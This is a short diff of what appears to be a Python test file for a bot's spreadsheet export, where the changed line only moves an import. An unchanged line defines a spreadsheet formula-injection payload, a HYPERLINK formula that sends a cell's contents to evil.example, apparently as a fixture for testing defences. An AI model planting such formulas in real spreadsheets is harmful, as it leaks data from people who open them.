@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 
 from bot.export import Sheet, write_workbook
 from handlers.canteen import FEEDBACK_HEADER
-from handlers.repair import LEDGER_HEADER
+from handlers.repair.ledger import LEDGER_HEADER
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&C2,"点击")'
 
